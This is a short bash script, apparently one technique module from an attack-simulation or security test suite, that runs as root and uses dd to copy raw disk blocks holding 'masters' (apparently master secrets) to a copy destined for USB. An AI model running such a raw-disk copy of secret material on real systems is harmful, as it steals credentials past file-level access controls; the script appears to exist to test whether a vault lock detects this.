#!/usr/bin/env bash
# technique: dd copies the raw disk that holds the masters
# hooks: file_open (of a block device that holds masters)
# lock: vault
# sink: usb
# as: root

. attack.sh
where=$(on_disk "$MASTER")
dd if="${where% *}" of="$COPY" bs=1M count=4 status=none
